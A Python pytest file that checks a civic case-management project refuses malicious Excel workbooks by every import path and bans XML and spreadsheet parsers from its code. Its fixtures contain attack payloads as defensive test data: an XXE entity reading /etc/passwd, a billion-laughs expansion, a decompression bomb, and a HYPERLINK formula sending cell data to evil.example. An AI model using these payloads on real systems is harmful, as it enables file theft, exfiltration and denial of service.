"""Workbooks (xlsx) made to do harm: nothing here opens one, so each is refused at once, by every way in."""

import io
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongzhi.civic.cases.logic.importing import Columns, survey
from gongzhi.civic.cases.logic.media import media_of
from gongzhi.civic.cases.logic.taxonomy import read_taxonomy
from gongzhi.kernel.errors import Refused
from gongzhi.kernel.sheets import open_sheet
from tests.architecture.source import files, imports, place

HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
SHEET = b"<worksheet><sheetData><row>%s</row></sheetData></worksheet>"
SECRET = b'<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "%s">]>' % (b"&a;" * 9999)
SHEETS = {
    "a bomb": HEAD + SHEET % (b"<c><v>0</v></c>" * 7_000_000),  # 100 MB that are 200 kB in the file
    "a million columns": HEAD + SHEET % (b"<c/>" * 1_000_000),
    "entities from outside": HEAD + SECRET + SHEET % b"<c><v>&s;</v></c>",
    "entities that multiply": HEAD + LAUGHS + SHEET % b"<c><v>&b;&b;&b;</v></c>",
    "formulas": HEAD + SHEET % b"<c><f>HYPERLINK(&quot;http://evil.example/&quot;&amp;A1)</f><v>1</v></c>",
}
# Whoever adds a reader of workbooks or of foreign XML meets these tests first.
READERS = (
    "openpyxl",
    "xlrd",
    "pandas",
    "calamine",
    "python_calamine",
    "zipfile",
    "lxml",
    "xml.sax",
    "xml.dom",
)
MOST_MEMORY = 8_000_000
MOST_SECONDS = 5


def a_workbook(sheet: bytes) -> bytes:
    """Return the least that a spreadsheet program takes for a workbook."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in (
            ("[Content_Types].xml", HEAD + b"<Types/>"),
            ("xl/workbook.xml", HEAD + b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", sheet),
        ):
            book.writestr(name, content)
    return made.getvalue()


@pytest.fixture(params=SHEETS)
def book(request: pytest.FixtureRequest) -> bytes:
    """One of the workbooks."""
    return a_workbook(SHEETS[request.param])


def refused(act: object, *words: object, **more: object) -> bool:
    """Tell whether something is refused, at once and in little memory."""
    begun = time.monotonic()
    tracemalloc.start()
    try:
        with pytest.raises(Refused):
            act(*words, **more)  # type: ignore[operator]  # one of ours
        return tracemalloc.get_traced_memory()[1] < MOST_MEMORY and time.monotonic() - begun < MOST_SECONDS
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("name", ["工单.xlsx", "工单.xlsm", "路灯.jpg", "x"])
def test_as_an_attachment_it_is_refused_under_any_name(book: bytes, name: str) -> None:
    assert refused(media_of, book, name=name)


def test_as_a_list_of_cases_or_categories_it_is_refused(book: bytes, tmp_path: Path) -> None:
    path = tmp_path / "cases.csv"
    path.write_bytes(book)
    assert refused(lambda: survey(open_sheet(path), Columns(text="内容", time="时间")))
    assert refused(lambda: read_taxonomy(open_sheet(path)))


@given(st.binary(max_size=2000), st.integers(0, 400))
def test_whatever_stands_in_it_and_however_damaged_it_is_refused(sheet: bytes, cut: int) -> None:
    book = a_workbook(sheet)
    with pytest.raises(Refused):
        media_of(book[: len(book) - cut], name="x.xlsx")


def test_nothing_reads_workbooks_or_foreign_xml() -> None:
    found = [
        place(path) for path in files() for name in imports(path) if name.split(" ")[0].startswith(READERS)
    ]
    assert found == []
    parsers = ("fromstring", "XMLParser", "iterparse", "ElementTree.parse", "XMLPullParser")
    assert [place(path) for path in files() if any(word in path.read_text() for word in parsers)] == []
